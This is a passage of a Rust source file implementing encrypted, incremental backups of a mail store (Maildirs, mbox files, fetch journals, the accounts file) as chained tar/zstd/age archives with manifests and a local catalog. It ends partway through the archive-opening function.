//! Backups of the local store: Maildirs, mbox files, fetch's journals and the accounts file, in
//! archives that are tar inside zstd inside age (passphrase or X25519 recipients), so that an
//! archive can also be opened with standard tools: `age -d F | zstd -d | tar x`.
//!
//! Archives form chains: the first is full, each later one stores only the file contents (by
//! SHA-256) that no earlier archive of the chain holds, and every archive ends with a manifest of
//! the whole store at its time (path, hash, size, time, mode, and which archive holds the bytes).
//! Restoring the chain up to an archive therefore gives the store exactly as it was then. What
//! earlier archives hold is remembered in a local catalog beside fetch's state, so an incremental
//! backup needs no key to read the earlier (possibly public-key encrypted) archives.
//!
//! Layout of one archive (tar entries, in this order): `pillarbox-backup.json` (the header: chain,
//! number in the chain, time, sources), then the new file contents under their paths (for a full
//! archive, the store's own tree), then `manifest.json`.

use pillarbox_os::io_err;
use std::collections::{BTreeMap, HashMap, HashSet};
use std::fs::{self, File};
use std::io::{self, BufReader, BufWriter, Read, Write};
use std::path::{Component, Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use age::secrecy::SecretString;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use pillarbox_os::mtime_ns;

/// Version of the archive layout.
pub const FORMAT: u32 = 1;
const HEADER_ENTRY: &str = "pillarbox-backup.json";
const MANIFEST_ENTRY: &str = "manifest.json";
const LOCK_FILE: &str = ".pillarbox-backup.lock";
/// Files up to this size are read once (hashed, then written from memory); larger ones are read
/// twice, streaming.
const IN_MEMORY: u64 = 64 << 20;
/// The largest header an archive may have (a few hundred bytes in practice).
const MAX_HEADER: u64 = 1 << 20;
/// The largest manifest an archive may have (about 200 bytes a file: over a million files).
const MAX_MANIFEST: u64 = 256 << 20;
/// The highest scrypt work factor accepted when decrypting (2^24: some seconds; age picks about
/// one second's worth on the machine that encrypts).
const MAX_SCRYPT_LOG_N: u8 = 24;

#[derive(Debug, thiserror::Error)]
pub enum BackupError {
    #[error(transparent)]
    Io(#[from] pillarbox_os::IoError),
    #[error("{0}: wrong passphrase or key (none of the given keys opens this archive)")]
    WrongKey(PathBuf),
    #[error("{0}: this archive is encrypted to a public key; give its key with --identity FILE")]
    NeedsIdentity(PathBuf),
    #[error("{path}: damaged: {detail}")]
    Damaged { path: PathBuf, detail: String },
    #[error("{0}")]
    Chain(String),
    #[error("{0}")]
    Refused(String),
    #[error("{0}")]
    Key(String),
}

/// What a part of the store is, for walking and for the reader of a restore.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SourceKind {
    /// A Maildir: every file except those in its (and its subfolders') `tmp/`.
    Maildir,
    /// One file (an mbox, the accounts file).
    File,
    /// A folder of small files (fetch's journals); lock files are left out.
    Folder,
}

/// One part of the store and its name inside the archive.
#[derive(Clone, Serialize, Deserialize)]
pub struct Source {
    /// The path inside the archive (`mail/work`, `config/accounts.toml`).
    pub name: String,
    /// Where it is on this machine.
    pub path: PathBuf,
    pub kind: SourceKind,
    /// Stored instead of the file's content (the accounts file with its secrets removed).
    #[serde(skip)]
    pub content: Option<Vec<u8>>,
}

impl std::fmt::Debug for Source {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Source({} = {} {:?})", self.name, self.path.display(), self.kind)
    }
}

/// How archives are encrypted.
pub enum Encryption {
    Passphrase(SecretString),
    Recipients(Vec<age::x25519::Recipient>),
    /// Only with the user's explicit `--no-encrypt`.
    None,
}

impl std::fmt::Debug for Encryption {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Encryption::Passphrase(_) => f.write_str("Encryption::Passphrase(..)"),
            Encryption::Recipients(r) => write!(f, "Encryption::Recipients({} keys)", r.len()),
            Encryption::None => f.write_str("Encryption::None"),
        }
    }
}

/// Keys for reading archives: identities (X25519 secret keys) and a passphrase asked for only
/// when an archive needs one, and then only once.
pub struct Keys<'a> {
    pub identities: Vec<age::x25519::Identity>,
    passphrase: Box<dyn Fn() -> Result<SecretString, String> + 'a>,
    asked: std::cell::OnceCell<SecretString>,
}

impl<'a> Keys<'a> {
    pub fn new(
        identities: Vec<age::x25519::Identity>,
        passphrase: impl Fn() -> Result<SecretString, String> + 'a,
    ) -> Self {
        Self { identities, passphrase: Box::new(passphrase), asked: std::cell::OnceCell::new() }
    }

    fn passphrase(&self) -> Result<&SecretString, BackupError> {
        if let Some(p) = self.asked.get() {
            return Ok(p);
        }
        let p = (self.passphrase)().map_err(BackupError::Key)?;
        Ok(self.asked.get_or_init(|| p))
    }
}

/// Read an age identity file (`AGE-SECRET-KEY-1...` lines; `#` comments).
pub fn read_identities(path: &Path) -> Result<Vec<age::x25519::Identity>, BackupError> {
    let text = fs::read_to_string(path).map_err(io_err(path.display()))?;
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        out.push(line.parse::<age::x25519::Identity>().map_err(|e| {
            BackupError::Key(format!(
                "{}, line {}: not an age secret key (AGE-SECRET-KEY-1...): {e}",
                path.display(),
                i + 1
            ))
        })?);
    }
    if out.is_empty() {
        return Err(BackupError::Key(format!("{}: no AGE-SECRET-KEY-1... line in it", path.display())));
    }
    Ok(out)
}

/// Parse age recipients (`age1...`), one per string; `#` comments and blank lines of recipient
/// files are skipped.
pub fn parse_recipients<'s>(
    lines: impl IntoIterator<Item = (String, &'s str)>,
) -> Result<Vec<age::x25519::Recipient>, BackupError> {
    let mut out = Vec::new();
    for (origin, line) in lines {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        out.push(
            line.parse::<age::x25519::Recipient>()
                .map_err(|e| BackupError::Key(format!("{origin}: {line:?} is not an age public key (age1...): {e}")))?,
        );
    }
    Ok(out)
}

/// The first part of an archive: which chain, which place in it, what was backed up.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Header {
    pub format: u32,
    /// The chain's id (8 hex digits), shared by a full archive and its incrementals.
    pub chain: String,
    /// 0 for the full archive, then 1, 2, ...
    pub seq: u32,
    /// Seconds since the epoch.
    pub created: u64,
    pub host: String,
    pub encrypted: bool,
    pub sources: Vec<Source>,
}

/// One file of the store at the archive's time.
#[derive(Clone, Debug, Serialize, Deserialize, PartialEq, Eq)]
pub struct FileEntry {
    pub path: String,
    pub sha256: String,
    pub size: u64,
    /// Modification time, nanoseconds since the epoch.
    pub mtime_ns: i128,
    pub mode: u32,
    /// The archive of the chain that holds the bytes.
    pub seq: u32,
}

/// The last part of an archive: the whole store at its time.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Manifest {
    pub format: u32,
    pub chain: String,
    pub seq: u32,
    pub files: Vec<FileEntry>,
}

/// What this machine remembers of a destination's current chain, so that the next backup
/// stores only new contents and need not hash unchanged files again.
#[derive(Debug, Default, Serialize, Deserialize)]
struct Catalog {
    chain: String,
    archives: Vec<CatalogArchive>,
    /// Content hash -> the archive that holds it.
    blobs: HashMap<String, u32>,
    /// Path in the archive -> what the file was at the last backup.
    stat: HashMap<String, Stat>,
}

#[derive(Debug, Serialize, Deserialize)]
struct CatalogArchive {
    seq: u32,
    file: String,
    size: u64,
    created: u64,
}

#[derive(Clone, Debug, Serialize, Deserialize, PartialEq, Eq)]
struct Stat {
    size: u64,
    mtime_ns: i128,
    ino: u64,
    sha256: String,
}

/// How a long run reports its progress (bytes read of the total).
pub trait Progress {
    fn start(&self, _what: &str, _total: u64) {}
    fn advance(&self, _bytes: u64) {}
    fn finish(&self) {}
}

/// No progress shown.
pub struct Quiet;
impl Progress for Quiet {}

/// The result of `create`.
#[derive(Debug, Serialize)]
pub struct Created {
    pub path: PathBuf,
    pub chain: String,
    pub seq: u32,
    /// Why a full backup was made when an incremental one could have been, if so.
    pub full_because: Option<String>,
    pub files: u64,
    /// Contents stored in this archive (new since the chain's earlier archives).
    pub stored: u64,
    pub stored_bytes: u64,
    pub archive_bytes: u64,
    /// Files that could not be read and were left out (symbolic links, vanished files).
    pub skipped: Vec<String>,
}

/// An archive's name: `pillarbox-YYYYMMDDTHHMMSSZ-CHAIN-SEQ.tar.zst[.age]`.
fn archive_name(created: u64, chain: &str, seq: u32, encrypted: bool) -> String {
    let time = pillarbox_os::date::compact(created);
    format!("pillarbox-{time}-{chain}-{seq:03}.tar.zst{}", if encrypted { ".age" } else { "" })
}

/// The chain and number in an archive's file name, if it is named as Pillarbox names them.
pub fn parse_name(name: &str) -> Option<(String, u32, bool)> {
    let (rest, encrypted) = match name.strip_suffix(".tar.zst.age") {
        Some(r) => (r, true),
        None => (name.strip_suffix(".tar.zst")?, false),
    };
    let rest = rest.strip_prefix("pillarbox-")?;
    let mut parts = rest.rsplitn(3, '-');
    let seq = parts.next()?.parse().ok()?;
    let chain = parts.next()?;
    let _time = parts.next()?;
    (chain.len() == 8 && chain.bytes().all(|b| b.is_ascii_hexdigit())).then(|| (chain.to_owned(), seq, encrypted))
}

/// The catalog of a destination, beside fetch's state.
fn catalog_path(state_root: &Path, dest: &Path) -> PathBuf {
    let abs = std::path::absolute(dest).unwrap_or_else(|_| dest.to_owned());
    let key = pillarbox_os::hex(&Sha256::digest(abs.as_os_str().as_encoded_bytes())[..8]);
    state_root.join("backup").join(format!("{key}.json"))
}

fn load_catalog(path: &Path) -> Option<Catalog> {
    let text = fs::read(path).ok()?;
    serde_json::from_slice(&text).ok()
}

fn write_atomically(path: &Path, bytes: &[u8]) -> Result<(), BackupError> {
    let dir = path.parent().unwrap_or(Path::new("."));
    create_private_dir(dir)?;
    let mut tmp = tempfile::NamedTempFile::new_in(dir).map_err(io_err(dir.display()))?;
    tmp.write_all(bytes).and_then(|()| tmp.as_file().sync_all()).map_err(io_err(path.display()))?;
    tmp.persist(path).map_err(|e| io_err(path.display())(e.error))?;
    Ok(())
}

fn create_private_dir(dir: &Path) -> Result<(), BackupError> {
    use std::os::unix::fs::DirBuilderExt;
    Ok(fs::DirBuilder::new().recursive(true).mode(0o700).create(dir).map_err(io_err(dir.display()))?)
}

/// A file found in the store.
struct Found {
    /// Path inside the archive.
    name: String,
    path: PathBuf,
    meta: fs::Metadata,
    /// Replacement content (see `Source::content`).
    content: Option<Vec<u8>>,
}

/// Walk the sources. In a Maildir, `new/` is read before `cur/`, so that a message a mail reader
/// moves from one to the other meanwhile is still met (in `cur/`).
fn walk(sources: &[Source], skipped: &mut Vec<String>) -> Result<Vec<Found>, BackupError> {
    let mut out = Vec::new();
    for s in sources {
        match s.kind {
            SourceKind::File => {
                if let Some(c) = &s.content {
                    let meta = fs::metadata(&s.path).map_err(io_err(s.path.display()))?;
                    out.push(Found { name: s.name.clone(), path: s.path.clone(), meta, content: Some(c.clone()) });
                    continue;
                }
                match fs::metadata(&s.path) {
                    Ok(meta) => out.push(Found { name: s.name.clone(), path: s.path.clone(), meta, content: None }),
                    Err(e) if e.kind() == io::ErrorKind::NotFound => {
                        skipped.push(format!("{}: not there", s.path.display()))
                    }
                    Err(e) => return Err(io_err(s.path.display())(e).into()),
                }
            }
            SourceKind::Maildir | SourceKind::Folder => {
                if !s.path.exists() {
                    // fetch's state folder appears with an account's first download.
                    if s.kind == SourceKind::Maildir {
                        skipped.push(format!("{}: not there", s.path.display()));
                    }
                    continue;
                }
                walk_dir(&s.path, &s.name, s.kind, &mut out, skipped)?;
            }
        }
    }
    Ok(out)
}

fn walk_dir(
    dir: &Path,
    name: &str,
    kind: SourceKind,
    out: &mut Vec<Found>,
    skipped: &mut Vec<String>,
) -> Result<(), BackupError> {
    let mut entries: Vec<(String, fs::DirEntry)> = Vec::new();
    for e in fs::read_dir(dir).map_err(io_err(dir.display()))? {
        let e = e.map_err(io_err(dir.display()))?;
        let Some(n) = e.file_name().to_str().map(str::to_owned) else {
            skipped.push(format!("{}: the name is not UTF-8", e.path().display()));
            continue;
        };
        entries.push((n, e));
    }
    let is_maildir = kind == SourceKind::Maildir && ["cur", "new"].iter().any(|d| dir.join(d).is_dir());
    // new/ before cur/, the rest in name order.
    entries.sort_by(|(a, _), (b, _)| (a != "new", a).cmp(&(b != "new", b)));
    for (n, e) in entries {
        let path = e.path();
        let child = format!("{name}/{n}");
        let ft = e.file_type().map_err(io_err(path.display()))?;
        if ft.is_dir() {
            if is_maildir && n == "tmp" {
                continue; // messages still being written
            }
            walk_dir(&path, &child, kind, out, skipped)?;
        } else if ft.is_file() {
            if kind == SourceKind::Folder && n == "lock" {
                continue;
            }
            match fs::symlink_metadata(&path) {
                Ok(meta) => out.push(Found { name: child, path, meta, content: None }),
                Err(e) if e.kind() == io::ErrorKind::NotFound => {}
                Err(e) => return Err(io_err(path.display())(e).into()),
            }
        } else {
            skipped.push(format!("{}: not a regular file", path.display()));
        }
    }
    Ok(())
}

/// Options for `create`.
pub struct CreateOptions<'a> {
    /// The folder the archives go into.
    pub dest: PathBuf,
    /// Where the catalog is kept (the parent of fetch's state folder).
    pub state_root: PathBuf,
    pub encryption: Encryption,
    /// Start a new chain even if an incremental backup is possible.
    pub full: bool,
    pub progress: &'a dyn Progress,
}

/// The archive being written: tar in zstd in (optionally) age, in a temporary file beside the
/// final name.
enum Sink {
    Age(zstd::Encoder<'static, age::stream::StreamWriter<BufWriter<File>>>),
    Plain(zstd::Encoder<'static, BufWriter<File>>),
}

impl Write for Sink {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        match self {
            Sink::Age(w) => w.write(buf),
            Sink::Plain(w) => w.write(buf),
        }
    }
    fn flush(&mut self) -> io::Result<()> {
        match self {
            Sink::Age(w) => w.flush(),
            Sink::Plain(w) => w.flush(),
        }
    }
}

impl Sink {
    fn new(file: File, encryption: &Encryption) -> io::Result<Self> {
        let out = BufWriter::with_capacity(256 << 10, file);
        fn zstd<W: Write>(w: W) -> io::Result<zstd::Encoder<'static, W>> {
            let mut z = zstd::Encoder::new(w, 3)?;
            z.include_checksum(true)?;
            // Compression in worker threads, while this one reads and hashes the files.
            let workers = std::thread::available_parallelism().map_or(1, |n| n.get().min(4));
            z.multithread(u32::try_from(workers).unwrap_or(1))?;
            Ok(z)
        }
        let encryptor = match encryption {
            Encryption::None => return Ok(Sink::Plain(zstd(out)?)),
            Encryption::Passphrase(p) => age::Encryptor::with_user_passphrase(p.clone()),
            Encryption::Recipients(r) => age::Encryptor::with_recipients(r.iter().map(|r| r as &dyn age::Recipient))
                .map_err(|e| io::Error::other(e.to_string()))?,
        };
        Ok(Sink::Age(zstd(encryptor.wrap_output(out)?)?))
    }

    fn finish(self) -> io::Result<File> {
        let out = match self {
            Sink::Age(z) => z.finish()?.finish()?,
            Sink::Plain(z) => z.finish()?,
        };
        out.into_inner().map_err(|e| e.into_error())
    }
}

fn tar_header(size: u64, mode: u32, mtime_ns: i128) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.set_size(size);
    h.set_mode(mode & 0o7777);
    h.set_mtime(u64::try_from(mtime_ns.div_euclid(1_000_000_000)).unwrap_or(0));
    h.set_entry_type(tar::EntryType::Regular);
    h
}

fn append_json<W: Write, T: Serialize>(tar: &mut tar::Builder<W>, name: &str, value: &T) -> io::Result<()> {
    let bytes = serde_json::to_vec_pretty(value).map_err(io::Error::other)?;
    let mut h = tar_header(bytes.len() as u64, 0o600, i128::from(pillarbox_os::unix_now()) * 1_000_000_000);
    tar.append_data(&mut h, name, bytes.as_slice())
}

/// A reader that hashes what passes and reports progress.
struct Hashing<'a, R> {
    inner: R,
    hash: Sha256,
    progress: &'a dyn Progress,
}

impl<R: Read> Read for Hashing<'_, R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.hash.update(&buf[..n]);
        self.progress.advance(n as u64);
        Ok(n)
    }
}

/// Back up `sources` into a new archive in `opts.dest`: incremental when this machine's catalog
/// of that folder names a chain whose archives are all still there, full otherwise.
pub fn create(sources: &[Source], opts: &CreateOptions) -> Result<Created, BackupError> {
    create_private_dir(&opts.dest)?;
    let _lock = lock_destination(&opts.dest)?;
    let catalog_file = catalog_path(&opts.state_root, &opts.dest);
    let (mut catalog, full_because) = match (opts.full, load_catalog(&catalog_file)) {
        (true, _) => (None, Some("--full was given".to_owned())),
        (false, None) => (None, None),
        (false, Some(c)) => {
            let now_encrypted = !matches!(opts.encryption, Encryption::None);
            let chain_encrypted = c.archives.first().and_then(|a| parse_name(&a.file)).map(|(_, _, e)| e);
            match missing_archive(&opts.dest, &c) {
                Some(why) => (None, Some(why)),
                // A chain is encrypted throughout or not at all (a restore refuses a mix).
                None if chain_encrypted.is_some_and(|e| e != now_encrypted) => (
                    None,
                    Some(format!(
                        "chain {} is {}, this backup is {}",
                        c.chain,
                        if now_encrypted { "plain" } else { "encrypted" },
                        if now_encrypted { "encrypted" } else { "plain" }
                    )),
                ),
                None => (Some(c), None),
            }
        }
    };
    let created = pillarbox_os::unix_now();
    let (chain, seq) = match &catalog {
        Some(c) => (c.chain.clone(), c.archives.last().map_or(0, |a| a.seq + 1)),
        None => {
            let mut id = [0u8; 4];
            getrandom::fill(&mut id).map_err(|e| io_err("random")(e.into()))?;
            (pillarbox_os::hex(&id), 0)
        }
    };
    let known: HashMap<String, u32> = catalog.as_ref().map(|c| c.blobs.clone()).unwrap_or_default();
    let old_stat: HashMap<String, Stat> = catalog.as_mut().map(|c| std::mem::take(&mut c.stat)).unwrap_or_default();

    let mut skipped = Vec::new();
    // fetch's journals are read before the Maildirs are listed: a journal records a message only
    // once it is in its Maildir, so every message a saved journal names is in the same archive
    // (a restored journal never claims a message the restored Maildir lacks).
    let (journals, rest): (Vec<Source>, Vec<Source>) =
        sources.iter().cloned().partition(|s| s.kind == SourceKind::Folder);
    let found = walk(&journals, &mut skipped)?;
    let encrypted = !matches!(opts.encryption, Encryption::None);
    let name = archive_name(created, &chain, seq, encrypted);
    let final_path = opts.dest.join(&name);
    let tmp = tempfile::Builder::new()
        .prefix(&format!(".{name}."))
        .tempfile_in(&opts.dest)
        .map_err(io_err(opts.dest.display()))?;
    let file = tmp.as_file().try_clone().map_err(io_err(tmp.path().display()))?;
    let write_err = |e: io::Error| BackupError::Io(io_err(format!("writing {}", final_path.display()))(e));
    let mut tar = tar::Builder::new(Sink::new(file, &opts.encryption).map_err(write_err)?);
    tar.mode(tar::HeaderMode::Complete);
    let header = Header {
        format: FORMAT,
        chain: chain.clone(),
        seq,
        created,
        host: pillarbox_os::host_name(),
        encrypted,
        sources: sources.to_vec(),
    };
    append_json(&mut tar, HEADER_ENTRY, &header).map_err(write_err)?;

    // Which files must be read: those whose size, time or inode changed since the last backup.
    let unchanged = |f: &Found| {
        use std::os::unix::fs::MetadataExt;
        f.content.is_none()
            && old_stat.get(&f.name).is_some_and(|s| {
                s.size == f.meta.len()
                    && s.mtime_ns == mtime_ns(&f.meta)
                    && s.ino == f.meta.ino()
                    && known.contains_key(&s.sha256)
            })
    };
    let mut files = Vec::new();
    let mut stat = HashMap::new();
    let mut here: HashMap<String, u32> = HashMap::new();
    let (mut stored, mut stored_bytes) = (0u64, 0u64);
    // Files gone between the listing and the reading: renamed ones are looked for (a bounded
    // number of times), the others were deleted.
    let mut vanished: Vec<PathBuf> = Vec::new();
    let mut searched = 0;
    let mut seen_paths: HashSet<PathBuf> = HashSet::new();
    let mut queue: std::collections::VecDeque<Found> = found.into();
    let mut later = Some(rest);
    loop {
        use std::os::unix::fs::MetadataExt;
        let Some(f) = queue.pop_front() else {
            // The journals are saved: now the mail.
            let Some(rest) = later.take() else { break };
            let found = walk(&rest, &mut skipped)?;
            let to_read: u64 = found.iter().filter(|f| !unchanged(f)).map(|f| f.meta.len()).sum();
            opts.progress.start("backing up", to_read);
            queue.extend(found);
            continue;
        };
        if !seen_paths.insert(f.path.clone()) && f.content.is_none() {
            continue;
        }
        let (size, mt, mode, ino) = (f.meta.len(), mtime_ns(&f.meta), f.meta.mode(), f.meta.ino());
        let hash = if unchanged(&f) {
            old_stat[&f.name].sha256.clone()
        } else {
            match store_file(&mut tar, &f, &known, &here, opts.progress).map_err(write_err)? {
                Stored::Vanished => {
                    searched += 1;
                    match moved_file(&f).filter(|_| searched <= 10_000) {
                        Some(again) => queue.push_back(again),
                        None => vanished.push(f.path.clone()),
                    }
                    continue;
                }
                Stored::Known(h) => h,
                Stored::Written(h, n) => {
                    stored += 1;
                    stored_bytes += n;
                    here.insert(h.clone(), seq);
                    h
                }
            }
        };
        let holder = known.get(&hash).or_else(|| here.get(&hash)).copied().unwrap_or(seq);
        files.push(FileEntry { path: f.name.clone(), sha256: hash.clone(), size, mtime_ns: mt, mode, seq: holder });
        if f.content.is_none() {
            stat.insert(f.name, Stat { size, mtime_ns: mt, ino, sha256: hash });
        }
    }
    let manifest = Manifest { format: FORMAT, chain: chain.clone(), seq, files };
    append_json(&mut tar, MANIFEST_ENTRY, &manifest).map_err(write_err)?;
    let file = tar.into_inner().and_then(Sink::finish).map_err(write_err)?;
    file.sync_all().map_err(write_err)?;
    let archive_bytes = file.metadata().map_err(write_err)?.len();
    drop(file);
    tmp.persist_noclobber(&final_path)
        .map_err(|e| BackupError::Io(io_err(final_path.display().to_string())(e.error)))?;
    File::open(&opts.dest).and_then(|d| d.sync_all()).map_err(io_err(opts.dest.display()))?;
    opts.progress.finish();

    // Remember it for the next, incremental, backup.
    let mut catalog = catalog.unwrap_or_else(|| Catalog { chain: chain.clone(), ..Default::default() });
    catalog.archives.push(CatalogArchive { seq, file: name, size: archive_bytes, created });
    catalog.blobs.extend(here);
    catalog.stat = stat;
    let bytes = serde_json::to_vec(&catalog).map_err(|e| BackupError::Io(io_err("catalog")(e.into())))?;
    write_atomically(&catalog_file, &bytes)?;
    skipped.extend(vanished.into_iter().map(|p| format!("{}: deleted while backing up", p.display())));
    Ok(Created {
        path: final_path,
        chain,
        seq,
        full_because: if seq == 0 { full_because } else { None },
        files: manifest.files.len() as u64,
        stored,
        stored_bytes,
        archive_bytes,
        skipped,
    })
}

/// One backup at a time per folder (the catalog and the chain's numbering depend on it). Under
/// the lock, partial archives of runs that were killed are removed.
fn lock_destination(dest: &Path) -> Result<File, BackupError> {
    let path = dest.join(LOCK_FILE);
    let lock = File::options().create(true).truncate(false).write(true).open(&path).map_err(io_err(path.display()))?;
    match lock.try_lock() {
        Ok(()) => {}
        Err(fs::TryLockError::WouldBlock) => {
            return Err(BackupError::Refused(format!(
                "another `pillarbox backup create` is writing into {} (lock {})",
                dest.display(),
                path.display()
            )));
        }
        Err(fs::TryLockError::Error(e)) => return Err(io_err(path.display())(e).into()),
    }
    for e in fs::read_dir(dest).map_err(io_err(dest.display()))?.flatten() {
        let n = e.file_name();
        if n.to_str().is_some_and(|n| n.starts_with(".pillarbox-") && n.contains(".tar.zst")) {
            fs::remove_file(e.path()).map_err(io_err(e.path().display()))?;
        }
    }
    Ok(lock)
}

/// Why the catalog's chain cannot be continued in `dest`, if it cannot.
fn missing_archive(dest: &Path, c: &Catalog) -> Option<String> {
    if c.archives.is_empty() {
        return Some("the catalog of this folder is empty".into());
    }
    for a in &c.archives {
        match fs::metadata(dest.join(&a.file)) {
            Ok(m) if m.len() == a.size => {}
            Ok(_) => return Some(format!("{} has changed size since it was written", a.file)),
            Err(_) => {
                return Some(format!(
                    "{} (number {} of chain {}) is no longer in {}",
                    a.file,
                    a.seq,
                    c.chain,
                    dest.display()
                ));
            }
        }
    }
    None
}

/// A Maildir message that vanished while being read was most likely renamed (new/ -> cur/, or a
/// flag change): find it under its new name, by the part before the `:`.
fn moved_file(f: &Found) -> Option<Found> {
    let file_name = f.path.file_name()?.to_str()?;
    let base = file_name.split(':').next()?;
    let maildir = f.path.parent()?.parent()?;
    let prefix = f.name.rsplitn(3, '/').nth(2)?;
    for sub in ["cur", "new"] {
        for e in fs::read_dir(maildir.join(sub)).ok()?.flatten() {
            let n = e.file_name();
            let Some(n) = n.to_str() else { continue };
            if n != file_name && n.split(':').next() == Some(base) {
                let meta = fs::symlink_metadata(e.path()).ok()?;
                return Some(Found { name: format!("{prefix}/{sub}/{n}"), path: e.path(), meta, content: None });
            }
        }
    }
    None
}

enum Stored {
    /// Already in an archive of the chain (or earlier in this one).
    Known(String),
    /// Written into this archive: hash and bytes.
    Written(String, u64),
    /// The file is gone.
    Vanished,
}

/// Hash a file and, when no archive of the chain holds its content yet, add it to the archive.
fn store_file<W: Write>(
    tar: &mut tar::Builder<W>,
    f: &Found,
    known: &HashMap<String, u32>,
    here: &HashMap<String, u32>,
    progress: &dyn Progress,
) -> io::Result<Stored> {
    use std::os::unix::fs::MetadataExt;
    let is_known = |h: &str| known.contains_key(h) || here.contains_key(h);
    let (mode, mt) = (f.meta.mode(), mtime_ns(&f.meta));
    let bytes = match &f.content {
        Some(c) => Some(c.clone()),
        None if f.meta.len() <= IN_MEMORY => match fs::read(&f.path) {
            Ok(b) => Some(b),
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Stored::Vanished),
            Err(e) => return Err(io::Error::new(e.kind(), format!("{}: {e}", f.path.display()))),
        },
        None => None,
    };
    if let Some(bytes) = bytes {
        progress.advance(f.meta.len());
        let hash = pillarbox_os::hex(&Sha256::digest(&bytes));
        if is_known(&hash) {
            return Ok(Stored::Known(hash));
        }
        tar.append_data(&mut tar_header(bytes.len() as u64, mode, mt), &f.name, bytes.as_slice())?;
        return Ok(Stored::Written(hash, bytes.len() as u64));
    }
    // A large file: hash it streaming, then copy it streaming and check it did not change.
    let open = || match File::open(&f.path) {
        Ok(file) => Ok(Some(file)),
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(io::Error::new(e.kind(), format!("{}: {e}", f.path.display()))),
    };
    let Some(file) = open()? else { return Ok(Stored::Vanished) };
    let mut first = Hashing { inner: BufReader::new(file), hash: Sha256::new(), progress: &Quiet };
    io::copy(&mut first, &mut io::sink())?;
    let hash = pillarbox_os::hex(&first.hash.finalize());
    if is_known(&hash) {
        progress.advance(f.meta.len());
        return Ok(Stored::Known(hash));
    }
    let Some(file) = open()? else { return Ok(Stored::Vanished) };
    let size = file.metadata()?.len();
    let mut second = Hashing { inner: BufReader::new(file).take(size), hash: Sha256::new(), progress };
    tar.append_data(&mut tar_header(size, mode, mt), &f.name, &mut second)?;
    if pillarbox_os::hex(&second.hash.finalize()) != hash {
        return Err(io::Error::other(format!(
            "{} changed while it was being backed up; run the backup again",
            f.path.display()
        )));
    }
    Ok(Stored::Written(hash, size))
}

// ---------------------------------------------------------------------------------------------
// Reading archives

/// A reader that counts bytes read (to say where damage was found, and for progress).
struct Counting<R> {
    inner: R,
    pos: Arc<AtomicU64>,
}

impl<R: Read> Read for Counting<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.pos.fetch_add(n as u64, Ordering::Relaxed);
        Ok(n)
    }
}

/// The decrypted, decompressed bytes of an archive.
type Plain = Box<dyn Read + Send>;

/// The plain bytes of an archive as produced by a thread of their own (reading, decrypting and
/// decompressing), while the caller's thread checks and writes the files: a pipe between them.
/// The thread's error, if any, takes the place of the end of the data; progress is reported
/// here, from the bytes of the file the thread has read.
struct Fed<'scope> {
    pipe: io::PipeReader,
    feeder: Option<std::thread::ScopedJoinHandle<'scope, io::Result<()>>>,
    pos: Arc<AtomicU64>,
    reported: u64,
    progress: &'scope dyn Progress,
}

impl Read for Fed<'_> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.pipe.read(buf)?;
        let pos = self.pos.load(Ordering::Relaxed);
        self.progress.advance(pos.saturating_sub(self.reported));
        self.reported = pos;
        if n == 0
            && let Some(feeder) = self.feeder.take()
        {
            feeder.join().map_err(|_| io::Error::other("the archive reader stopped unexpectedly"))??;
        }
        Ok(n)
    }
}

/// An error met while reading an archive, said as what it means for the archive.
fn describe(e: &io::Error) -> String {
    let text = e.to_string();
    if text.contains("decryption error") {
        "the encrypted data fails its integrity check (the file was altered or cut short)".into()
    } else if e.kind() == io::ErrorKind::UnexpectedEof {
        format!("the file ends too early ({text})")
    } else {
        text
    }
}

const AGE_MAGIC: &[u8] = b"age-encryption.org/";
const ZSTD_MAGIC: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];

/// Open an archive: its age header is read and a key found for it (here, so that a wrong key is
/// known before anything else happens); what comes back decrypts and decompresses as it is read.
/// Decrypt (when age-encrypted) and decompress an archive; also says whether it really was
/// encrypted (a header only claims it).
fn open(path: &Path, keys: &Keys) -> Result<(Plain, Arc<AtomicU64>, bool), BackupError> {
    let file = File::open(path).map_err(io_err(path.display()))?;
    let pos = Arc::new(AtomicU64::new(0));
    let mut input = BufReader::with_capacity(256 << 10, Counting { inner: file, pos: pos.clone() });
    let damaged = |detail: String| BackupError::Damaged { path: path.to_owned(), detail };
    let start = io::BufRead::fill_buf(&mut input).map_err(io_err(path.display()))?;
    let encrypted = start.starts_with(AGE_MAGIC);
    let decrypted: Plain = if encrypted {
        let d =
            age::Decryptor::new_buffered(input).map_err(|e| damaged(format!("the age header is unreadable: {e}")))?;
        let reader = if d.is_scrypt() {
            let mut id = age::scrypt::Identity::new(keys.passphrase()?.clone());
            id.set_max_work_factor(MAX_SCRYPT_LOG_N);
            d.decrypt(std::iter::once(&id as &dyn age::Identity))
        } else {
            if keys.identities.is_empty() {
                return Err(BackupError::NeedsIdentity(path.to_owned()));
            }
            d.decrypt(keys.identities.iter().map(|i| i as &dyn age::Identity))
        };
        match reader {
            Ok(r) => Box::new(r),
            Err(age::DecryptError::NoMatchingKeys | age::DecryptError::DecryptionFailed) => {
                return Err(BackupError::WrongKey(path.to_owned()));
            }
            Err(age::DecryptError::ExcessiveWork { required, target }) => {
                return Err(damaged(format!(
